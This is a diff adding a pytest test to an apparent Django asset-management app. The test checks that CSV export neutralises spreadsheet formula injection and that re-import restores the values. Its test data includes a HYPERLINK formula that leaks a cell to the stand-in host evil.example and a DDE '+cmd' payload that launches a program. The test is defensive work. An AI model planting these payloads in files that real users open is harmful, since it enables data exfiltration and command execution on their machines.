@@ -287,3 +287,37 @@ def test_continue_on_error_with_a_reference_to_a_failed_row(fleet, tmp_path):
     assert sorted(Asset.objects.values_list("key", flat=True)) == ["tr-4", "tr-5"]
     tr4 = Asset.objects.get(key="tr-4")
     assert Asset.objects.get(key="tr-5").custom_fields["towed_by"] == tr4.pk
+
+
+def test_csv_export_escapes_formula_cells_and_the_import_restores_them(fleet, tmp_path):
+    """Text a spreadsheet would run gets a leading quote in the CSV; numbers stay numbers; the
+    importer strips the quote again, so the export re-imports unchanged."""
+    org, truck = fleet
+    written = {  # value -> its CSV cell
+        '=HYPERLINK("http://evil.example/?"&A1,"open")': '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
+        "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)",
+        "\tTabbed": "'\tTabbed", "\rReturn": "'\rReturn", "-": "'-",
+        "'=already quoted": "''=already quoted", "'plain quote": "'plain quote", "-12.5": "-12.5",
+    }
+    for n, text in enumerate(written):
+        # Titles are stripped by the services, so leading whitespace goes in the STRING field only.
+        title = f"Asset {n}" if text[0] in "\t\r" else text
+        make_asset(org, truck, title, key=f"f{n}", custom_fields={"license_plate": text, "fuel_capacity_l": 12.5})
+    target = tmp_path / "export.csv"
+    call_command("export_assets", str(target), "--organization", "translog", stdout=io.StringIO())
+    import csv
+
+    with open(target, newline="", encoding="utf-8") as stream:
+        rows = {row["key"]: row for row in csv.DictReader(stream)}
+    for n, (text, cell) in enumerate(written.items()):
+        assert rows[f"f{n}"]["license_plate"] == cell
+        assert rows[f"f{n}"]["title"] == (f"Asset {n}" if text[0] in "\t\r" else cell)
+        assert rows[f"f{n}"]["fuel_capacity_l"] == "12.5"
+    before = list(Asset.objects.order_by("key").values_list("key", "title", "custom_fields", "version"))
+    out, err = io.StringIO(), io.StringIO()
+    try:
+        call_command("import_assets", str(target), "--organization", "translog", "--update", stdout=out, stderr=err)
+    except CommandError as exc:
+        raise AssertionError(err.getvalue()) from exc
+    assert list(Asset.objects.order_by("key").values_list("key", "title", "custom_fields", "version")) == before
+    assert f"0 created, 0 updated, {len(written)} unchanged, 0 failed" in out.getvalue()
